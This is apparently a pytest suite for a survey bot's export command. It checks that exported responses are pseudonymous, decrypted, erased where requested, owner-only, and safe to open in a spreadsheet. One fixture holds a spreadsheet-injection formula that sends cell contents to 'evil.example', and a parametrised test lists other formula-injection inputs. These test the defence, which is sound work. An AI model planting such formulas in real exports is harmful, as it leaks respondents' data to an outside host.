"""`sauti campaign export`: responses as CSV and JSON, pseudonymous, decrypted, spreadsheet-safe."""

from __future__ import annotations

import csv
import io
import json
import stat
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from bot.access.organisations import DEFAULT_ORG
from bot.conversation.inbound import Join
from bot.records.export import respondents
from bot.records.export_files import safe_cell
from dialogues.inbound import Decline, Skip
from tests.bot.commands import Deployment, sauti
from tests.kit import stored
from tests.kit.example import CAMPAIGN
from tests.kit.sheets import about

STORY = "Soldiers at the checkpoint read my messages, habari"  # free text, sealed in Redis
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'  # typed by someone in the public
AMINA = ["1, 3", "2", "wizi", "ndiyo", STORY, "hapana", "3", "2 5", "8", "2", "ruka", "3"]
JOINED = "2026-11-18T11:06:40Z"
ANSWERED = "2026-11-18T11:16:40Z"  # the answers are processed ten minutes later
HEADER = [
    "participant",
    "language",
    "status",
    "started_at",
    "updated_at",
    "uses",
    "money_safe",
    "worry",
    "unsafe",
    "unsafe_what",
    "sim_id",
    "outages",
    "cut_effect",
    "trust",
    "share",
    "change",
    "area",
]
# Platform user ids (web chat tokens) and addresses: none of them may appear in an export.
TOKENS = {"amina": "tok-amina-5f1e", "juma": "tok-juma-77c2", "claire": "tok-claire-90ab"}
ADDRESSES = {"amina": "+255700000001", "juma": "+255700000002", "claire": "+255700000003"}
_LANGUAGES = (("amina", "sw"), ("juma", "en"), ("claire", "fr"))


async def _join(deployment: Deployment, name: str, language: str) -> str:
    pid = deployment.participant(TOKENS[name])
    await deployment.send(pid, Join(CAMPAIGN, language), address=ADDRESSES[name])
    return pid


async def _three_participants(deployment: Deployment) -> dict[str, str]:
    """Amina completes it in Swahili (free text, a skip), Juma in English (a decline, a
    formula typed as free text), Claire stops after the first question in French."""
    pids = {name: await _join(deployment, name, lang) for name, lang in _LANGUAGES}
    await deployment.drain()
    deployment.clock.now += 600
    for typed in AMINA:
        await deployment.send(pids["amina"], typed)
    for said in ("2", Decline(), "yes", "0", "5", "1", FORMULA, Skip()):
        await deployment.send(pids["juma"], said)
    await deployment.send(pids["claire"], "4")
    await deployment.drain()
    return pids


async def _seen_as(deployment: Deployment, pids: dict[str, str]) -> dict[str, str]:
    """How the campaign's organisation names each of them: its pseudonym, never the id."""
    pseudonyms = await deployment.app.pseudonyms(DEFAULT_ORG)
    return {name: pseudonyms.of(pid) for name, pid in pids.items()}


def _expected_rows(pids: dict[str, str]) -> list[list[str]]:
    fixed = {
        name: [pids[name], language, "completed", JOINED, ANSWERED] for name, language in _LANGUAGES
    }
    fixed["claire"][2] = "in progress"
    amina = ["calls;money", "2", "theft", "yes", STORY, "no", "3", "family;news", "8", "judge"]
    return sorted(
        [
            fixed["amina"] + [*amina, "(skipped)", "village"],
            fixed["juma"]
            + ["sms", "", "", "(declined)", "", "yes", "0", "", "5", "refuse", "'" + FORMULA]
            + ["(skipped)"],
            fixed["claire"] + ["internet"] + [""] * 11,
        ]
    )


def _assert_nothing_identifying(output: str) -> None:
    for secret in [*TOKENS.values(), *ADDRESSES.values()]:
        assert secret not in output
        assert secret.lstrip("+") not in output


async def test_csv_has_one_row_per_respondent_with_decrypted_text_in_survey_order(
    deployment: Deployment, capsys: pytest.CaptureFixture[str]
) -> None:
    pids = await _three_participants(deployment)
    assert await sauti("campaign", "export", CAMPAIGN) == 0
    captured = capsys.readouterr()
    rows = list(csv.reader(io.StringIO(captured.out)))
    assert rows[0] == HEADER
    assert sorted(rows[1:]) == _expected_rows(await _seen_as(deployment, pids))
    assert "exported 3 respondents" in captured.err
    _assert_nothing_identifying(captured.out + captured.err)
    for internal in pids.values():
        assert internal not in captured.out


async def test_answers_stored_before_the_upgrade_export_the_same(
    deployment: Deployment, capsys: pytest.CaptureFixture[str]
) -> None:
    """Answers and sessions written by the version that stored each answer as JSON (free text in
    base64) are read as they were: an upgrade loses nothing, and rewrites nothing."""
    pids = await _three_participants(deployment)
    app = deployment.app
    for pid in pids.values():
        await stored.store_as_before(app.redis, app.schema, pid, CAMPAIGN)
    assert await sauti("campaign", "export", CAMPAIGN) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert sorted(rows[1:]) == _expected_rows(await _seen_as(deployment, pids))


async def test_json_has_the_same_content_with_answer_outcomes(
    deployment: Deployment, capsys: pytest.CaptureFixture[str]
) -> None:
    pids = await _seen_as(deployment, await _three_participants(deployment))
    assert await sauti("campaign", "export", CAMPAIGN, "--format", "json") == 0
    out = capsys.readouterr().out
    exported = {item["participant"]: item for item in json.loads(out)}
    assert set(exported) == set(pids.values())
    juma = exported[pids["juma"]]
    assert {key: juma[key] for key in ("language", "status", "started_at", "updated_at")} == {
        "language": "en",
        "status": "completed",
        "started_at": JOINED,
        "updated_at": ANSWERED,
    }
    assert juma["answers"] == {
        "uses": {"outcome": "answered", "value": ["sms"]},
        "money_safe": None,
        "worry": None,
        "unsafe": {"outcome": "declined", "value": None},
        "unsafe_what": None,
        "sim_id": {"outcome": "answered", "value": "yes"},
        "outages": {"outcome": "answered", "value": 0},
        "cut_effect": None,
        "trust": {"outcome": "answered", "value": 5},
        "share": {"outcome": "answered", "value": "refuse"},
        "change": {"outcome": "answered", "value": FORMULA},  # JSON is data, not a sheet
        "area": {"outcome": "skipped", "value": None},
    }
    amina = exported[pids["amina"]]["answers"]
    assert amina["unsafe_what"] == {"outcome": "answered", "value": STORY}
    assert amina["cut_effect"] == {"outcome": "answered", "value": ["family", "news"]}
    assert exported[pids["claire"]]["status"] == "in progress"
    _assert_nothing_identifying(out)


async def test_an_erased_participant_keeps_choices_but_their_words_are_gone(
    deployment: Deployment, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    pids = await _three_participants(deployment)
    await deployment.app.redis.hdel(deployment.app.schema.participant(pids["amina"]), "wk")
    output = tmp_path / "responses.csv"
    assert await sauti("campaign", "export", CAMPAIGN, "--output", str(output)) == 0
    assert capsys.readouterr().out == ""
    assert stat.S_IMODE(output.stat().st_mode) == 0o600  # decrypted words: owner only
    rows = {row[0]: row for row in csv.reader(io.StringIO(output.read_text(encoding="utf-8")))}
    pids = await _seen_as(deployment, pids)
    amina = dict(zip(HEADER, rows[pids["amina"]], strict=True))
    assert amina["unsafe_what"] == "(erased)"
    assert amina["uses"] == "calls;money"
    assert amina["area"] == "village"
    assert STORY not in output.read_text(encoding="utf-8")
    assert dict(zip(HEADER, rows[pids["juma"]], strict=True))["change"] == "'" + FORMULA


async def test_json_marks_erased_text_as_lost(
    deployment: Deployment, capsys: pytest.CaptureFixture[str]
) -> None:
    pids = await _three_participants(deployment)
    await deployment.app.redis.hdel(deployment.app.schema.participant(pids["amina"]), "wk")
    assert await sauti("campaign", "export", CAMPAIGN, "--format", "json") == 0
    exported = {item["participant"]: item for item in json.loads(capsys.readouterr().out)}
    answer = exported[(await _seen_as(deployment, pids))["amina"]]["answers"]["unsafe_what"]
    assert answer == {"outcome": "answered", "value": None, "lost": "erased"}


@pytest.mark.parametrize(
    ("typed", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+255 700", "'+255 700"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        (" =1+1", "' =1+1"),
        ("\u00a0=1+1", "'\u00a0=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("\x00=1+1", "'\x00=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("x;=HYPERLINK(A2&B2)", "x;'=HYPERLINK(A2&B2)"),
        ("fine = good", "fine = good"),
        ("a;b", "a;b"),
    ],
)
def test_cells_a_spreadsheet_would_evaluate_get_an_apostrophe(typed: str, cell: str) -> None:
    assert safe_cell(typed) == cell


async def test_an_unknown_campaign_exits_1_and_writes_no_file(
    deployment: Deployment, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    output = tmp_path / "nope.csv"
    assert await sauti("campaign", "export", "nope", "--output", str(output)) == 1
    assert "no campaign 'nope'" in capsys.readouterr().err
    assert not output.exists()


async def test_a_campaign_nobody_started_exports_a_header_or_an_empty_list(
    deployment: Deployment, capsys: pytest.CaptureFixture[str]
) -> None:
    assert await sauti("campaign", "export", CAMPAIGN) == 0
    assert capsys.readouterr().out.splitlines() == [",".join(HEADER)]
    assert await sauti("campaign", "export", CAMPAIGN, "--format", "json") == 0
    assert json.loads(capsys.readouterr().out) == []


async def test_respondents_are_read_in_chunks_each_exactly_once(deployment: Deployment) -> None:
    pids = {await _join_anyone(deployment, n) for n in range(11)}
    await deployment.drain()
    app = deployment.app
    seen: list[Any] = [
        r.participant_id
        async for r in respondents(app.redis, app.schema, app.crypto, CAMPAIGN, chunk=2)
    ]
    assert sorted(seen) == sorted(pids)


async def _join_anyone(deployment: Deployment, number: int) -> str:
    pid = deployment.participant(f"someone-{number}")
    await deployment.send(pid, Join(CAMPAIGN, "en"))
    return pid


async def test_an_xlsx_file_has_labels_numbers_as_numbers_and_inert_formulas(
    deployment: Deployment, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    pids = await _seen_as(deployment, await _three_participants(deployment))
    output = tmp_path / "responses.xlsx"
    assert (
        await sauti(
            "campaign", "export", CAMPAIGN, "--format", "xlsx", "--labels", "--output", str(output)
        )
        == 0
    )
    assert stat.S_IMODE(output.stat().st_mode) == 0o600
    book = openpyxl.load_workbook(output)
    header, *rows = list(book["Responses"].iter_rows(values_only=True))
    assert header[:8] == (*HEADER[:6], "uses_label", "money_safe")
    by_name = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    juma, amina = by_name[pids["juma"]], by_name[pids["amina"]]
    assert (juma["outages"], juma["trust"]) == (0, 5)  # numbers, not text
    assert (juma["started_at"], juma["updated_at"]) == (JOINED, ANSWERED)
    assert juma["change"] == FORMULA  # as typed, and kept text even once edited:
    change = next(
        row[header.index("change")]
        for row in book["Responses"].iter_rows(min_row=2)
        if row[0].value == pids["juma"]
    )
    assert change.data_type == "s"
    assert change.quotePrefix
    assert (juma["unsafe"], juma["unsafe_label"]) == ("(declined)", None)
    assert (amina["uses"], amina["uses_label"]) == ("calls;money", "Calls; Mobile money")
    assert amina["cut_effect_label"] == "Reach my family; Get news or alerts"
    assert amina["unsafe_what"] == STORY
    told = about(book["About"])
    assert (told["Exported by"], told["Respondents"]) == ("operator", 3)
    _assert_nothing_identifying(str(list(book["Responses"].iter_rows(values_only=True))))
    assert "exported 3 respondents" in capsys.readouterr().err


async def test_a_csv_file_starts_with_a_byte_order_mark_and_labels_in_a_chosen_language(
    deployment: Deployment, tmp_path: Path
) -> None:
    pids = await _seen_as(deployment, await _three_participants(deployment))
    output = tmp_path / "responses.csv"
    assert (
        await sauti(
            "campaign", "export", CAMPAIGN, "--labels", "--language", "sw", "--output", str(output)
        )
        == 0
    )
    raw = output.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = {r["participant"]: r for r in csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))}
    assert rows[pids["amina"]]["uses_label"] == "Kupiga simu; Pesa kwa simu"
    assert (rows[pids["amina"]]["unsafe_label"], rows[pids["amina"]]["sim_id_label"]) == (
        "Ndiyo",
        "Hapana",
    )


async def test_a_language_the_campaign_lacks_is_refused(
    deployment: Deployment, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    output = tmp_path / "responses.csv"
    assert (
        await sauti(
            "campaign", "export", CAMPAIGN, "--labels", "--language", "zu", "--output", str(output)
        )
        == 2
    )
    assert "choose one of en, fr, ar, sw" in capsys.readouterr().err
    assert not output.exists()


DATED = """
spec_version: 1
id: flood-2026
organisation: {en: Nuru Mobile}
title: {en: The flood}
languages: [en]
default_language: en
promise: {en: We will tell you what we decided.}
questions:
  - {id: flooded, kind: date, max: today, text: {en: When did the water reach your home?}}
  - {id: help, kind: yes_no, text: {en: Did anyone help you?}}
"""


async def test_a_date_is_exported_as_an_iso_date_and_never_counted_by_its_day(
    deployment: Deployment, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    survey = tmp_path / "flood.yaml"
    survey.write_text(DATED, encoding="utf-8")
    assert await sauti("campaign", "load", str(survey), "--open") == 0
    pid = deployment.participant("tok-flood")
    await deployment.send(pid, Join("flood-2026", "en"), address="+255700000009")
    await deployment.drain()
    for typed in ("the day the river rose", "March 5th, 2026", "yes"):
        await deployment.send(pid, typed)
    await deployment.drain()
    capsys.readouterr()

    assert await sauti("campaign", "export", "flood-2026") == 0
    [row] = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert (row["status"], row["flooded"], row["help"]) == ("completed", "2026-03-05", "yes")
    assert await sauti("campaign", "results-export", "flood-2026") == 0
    results = capsys.readouterr().out
    assert "flooded" in results  # that it was answered is counted…
    assert "2026-03-05" not in results  # …never the day
